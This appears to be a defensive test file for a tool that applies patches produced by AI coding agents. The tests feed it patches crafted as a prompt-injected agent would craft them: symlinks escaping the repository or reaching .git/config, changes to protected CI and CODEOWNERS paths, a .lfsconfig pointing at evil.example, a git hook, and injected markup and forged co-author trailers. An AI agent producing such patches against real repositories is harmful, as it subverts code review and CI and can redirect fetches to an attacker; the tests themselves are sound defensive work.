// An adversarial review of apply: artifacts crafted as a prompt-injected agent job would, each
// checked with real git against a real remote. What git itself refuses is here too, so a change
// in git or in apply's use of it that lets one through fails a test.
import { chmodSync, mkdirSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { ISSUE_EVENT, START, applyJob, checkout, expectRefusal, patchOf, remoteWith, uploadLeg } from './apply-support.js'
import { git, startWorld, type World } from './harness.js'

let world: World | undefined
afterEach(async () => {
  await world?.close()
  world = undefined
})

describe('apply against crafted artifacts', { timeout: 180_000 }, () => {
  it('refuses a link that leaves through another link, though its target written out stays inside', async () => {
    const origin = remoteWith({ ...START, 'outer/inner/y.txt': 'y\n' })
    // Already in the repository, inside: top/outer/inner/.. is outer, .. the top.
    const seed = checkout(origin)
    symlinkSync('outer/inner/../..', path.join(seed, 'e'))
    // Out before the patch, and nothing of the patch on its way: not the patch's doing, not refused.
    symlinkSync('/usr/share/dict', path.join(seed, 'dict'))
    git(seed, 'add', 'e', 'dict')
    git(seed, 'commit', '-qm', 'a link inside')
    git(seed, 'push', '-q', 'origin', 'main')
    world = await startWorld([])
    await uploadLeg(world, 'codex-x', patchOf(origin, (top) => {
      // q -> . ; p -> q/src/../.. : the string normalizes to ".", the file system climbs above the top.
      symlinkSync('.', path.join(top, 'q'))
      symlinkSync('q/src/../..', path.join(top, 'p'))
      // Into .git through a link to the top.
      symlinkSync('..', path.join(top, 'docs/top'))
      symlinkSync('top/.git/config', path.join(top, 'docs/cfg'))
      // The unchanged link e leaves once outer is a link to the top: inner/.. is the top, .. above it.
      rmSync(path.join(top, 'outer'), { recursive: true })
      symlinkSync('.', path.join(top, 'outer'))
      mkdirSync(path.join(top, 'inner'))
      writeFileSync(path.join(top, 'inner/z.txt'), 'z\n')
    }))
    const refused = ['docs/cfg', 'e', 'p']
    await expectRefusal(world, origin, { 'artifact-name': 'codex-x' }, 'Refused: the patches leave symbolic links that point outside the repository: docs/cfg -> top/.git/config, e -> outer/inner/../.., p -> q/src/../...', refused)
  })

  it('refuses protected paths reached by rename, mode change, deletion and another case; git refuses writing through a link', async () => {
    const origin = remoteWith({ ...START, CODEOWNERS: '* @owners\n', '.github/workflows/ci.yml': 'on: push\n' })
    world = await startWorld([])
    await uploadLeg(world, 'codex-x', patchOf(origin, (top) => {
      unlinkSync(path.join(top, 'CODEOWNERS'))
      chmodSync(path.join(top, '.github/workflows/ci.yml'), 0o755)
      renameSync(path.join(top, 'docs/guide.md'), path.join(top, '.github/guide.md'))
      mkdirSync(path.join(top, '.GitHub/workflows'), { recursive: true })
      writeFileSync(path.join(top, '.GitHub/workflows/x.yml'), 'on: push\n')
      writeFileSync(path.join(top, 'src/Action.YML'), 'runs: {}\n')
      // Where git-lfs fetches from, when a push-mode checkout smudges LFS pointers.
      writeFileSync(path.join(top, '.lfsconfig'), '[lfs]\n\turl = https://evil.example/lfs\n')
    }))
    const refused = ['.GitHub/workflows/x.yml', '.github/guide.md', '.github/workflows/ci.yml', '.lfsconfig', 'CODEOWNERS', 'src/Action.YML']
    await expectRefusal(world, origin, { 'artifact-name': 'codex-x' }, `Refused: the patches change protected paths: ${refused.join(', ')}.`, refused)

    // gh -> .github, then gh/workflows/x.yml: git apply refuses a path beyond a link.
    world.github.comments.splice(0)
    const through = ['diff --git a/gh b/gh', 'new file mode 120000', '--- /dev/null', '+++ b/gh', '@@ -0,0 +1 @@', '+.github', '\\ No newline at end of file', 'diff --git a/gh/workflows/x.yml b/gh/workflows/x.yml', 'new file mode 100644', '--- /dev/null', '+++ b/gh/workflows/x.yml', '@@ -0,0 +1 @@', '+on: push', ''].join('\n')
    await uploadLeg(world, 'codex-through', through)
    await expectRefusal(world, origin, { 'artifact-name': 'codex-through' }, /does not apply to the checked-out commit [0-9a-f]{40}: .*gh\/workflows\/x\.yml' is beyond a symbolic link/)

    // A file in .git, or a path with '..': git apply refuses the path.
    world.github.comments.splice(0)
    const inGit = ['diff --git a/.git/hooks/pre-push b/.git/hooks/pre-push', 'new file mode 100755', '--- /dev/null', '+++ b/.git/hooks/pre-push', '@@ -0,0 +1 @@', '+#!/bin/sh', ''].join('\n')
    await uploadLeg(world, 'codex-in-git', inGit)
    await expectRefusal(world, origin, { 'artifact-name': 'codex-in-git' }, /does not apply .*invalid path '\.git\/hooks\/pre-push'/)
  })

  it('refuses a submodule commit (gitlink) unless allowed-paths names it', async () => {
    const origin = remoteWith(START)
    world = await startWorld([])
    const gitlink = ['diff --git a/vendor/lib b/vendor/lib', 'new file mode 160000', 'index 0000000000000000000000000000000000000000..1234567890123456789012345678901234567890', '--- /dev/null', '+++ b/vendor/lib', '@@ -0,0 +1 @@', '+Subproject commit 1234567890123456789012345678901234567890', ''].join('\n')
    await uploadLeg(world, 'codex-x', gitlink)
    await expectRefusal(world, origin, { 'artifact-name': 'codex-x' }, 'Refused: the patches change submodule commits: vendor/lib.', ['vendor/lib'])
    const run = await applyJob(world, checkout(origin), { 'artifact-name': 'codex-x', 'allowed-paths': 'vendor/lib' }, { event: ISSUE_EVENT })
    expect(run.main.exitCode, run.main.stdout).toBe(0)
    expect(git(origin, 'ls-tree', run.main.outputs.branch, 'vendor/lib')).toBe('160000 commit 1234567890123456789012345678901234567890\tvendor/lib\n')
  })

  it("keeps run.json's slice out of the commit message and the pull request's markup when it is not a plain glob", async () => {
    const origin = remoteWith(START)
    world = await startWorld([])
    const injected = 'src/**`\n\n@everyone [click](https://evil.example)\n\nCo-authored-by: Mallory <m@evil.example>'
    await uploadLeg(world, 'codex-a', patchOf(origin, (top) => writeFileSync(path.join(top, 'src/a.txt'), 'A\n')), { slice: [injected, 'src/**'] })
    await uploadLeg(world, 'codex-b', patchOf(origin, (top) => writeFileSync(path.join(top, 'docs/guide.md'), 'B\n')), { slice: ['docs/**'] })
    const workspace = checkout(origin)
    const run = await applyJob(world, workspace, { 'artifact-pattern': 'codex-*' }, { event: ISSUE_EVENT })
    expect(run.main.exitCode, run.main.stdout).toBe(0)
    const message = git(origin, 'log', '-1', '--format=%B', run.main.outputs.branch)
    expect(message).not.toContain('@everyone')
    expect(message).not.toMatch(/^Co-authored-by/m)
    expect(message).toContain('- codex-a (src/**)')
    const body = world.github.pulls[0].body
    expect(body).not.toContain('@everyone')
    expect(body).toContain('Paths: `src/**`.')
  })
})
